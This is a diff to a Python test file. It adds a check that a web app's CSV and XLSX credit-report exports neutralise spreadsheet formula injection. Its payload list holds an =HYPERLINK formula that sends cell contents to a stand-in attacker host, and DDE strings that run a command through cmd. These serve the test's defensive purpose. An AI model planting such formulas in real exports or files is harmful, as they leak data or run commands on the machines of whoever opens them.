@@ -11,6 +11,7 @@ from demo.simulate import simulate
 from extensions import db
 from models import Campaign, ChecklistItem, Draw, Enterprise, Expert, Matter, User
 from services.exports import FORMULA_STARTS
+from services.workflow import clock
 from tests.e2e.journey import user_client
 
 PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
@@ -92,3 +93,19 @@ def test_every_export_route_writes_inert_cells(app):
             assert any(f.startswith("'") and f[1:].startswith(FORMULA_STARTS) for f in fields), url
         else:
             _assert_inert_xlsx(url, response.data, expect_payload)
+    _walk_credit_records(app, supervisor)
+
+
+def _walk_credit_records(app, supervisor) -> None:
+    """信用归集 (one rule for .csv, .xlsx and .json): today's records name the poisoned enterprises, inert."""
+    with app.app_context():
+        today = clock.today().isoformat()
+    for fmt in ("csv", "xlsx"):
+        response = supervisor.get(f"/reports/credit.{fmt}?start={today}&end={today}")
+        assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
+        if fmt == "csv":
+            fields = [f for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))) for f in row]
+            assert not [f for f in fields if f.startswith(FORMULA_STARTS)]
+            assert any(f.startswith("'") and f[1:].startswith(FORMULA_STARTS) for f in fields)
+        else:
+            _assert_inert_xlsx(f"/reports/credit.{fmt}", response.data)
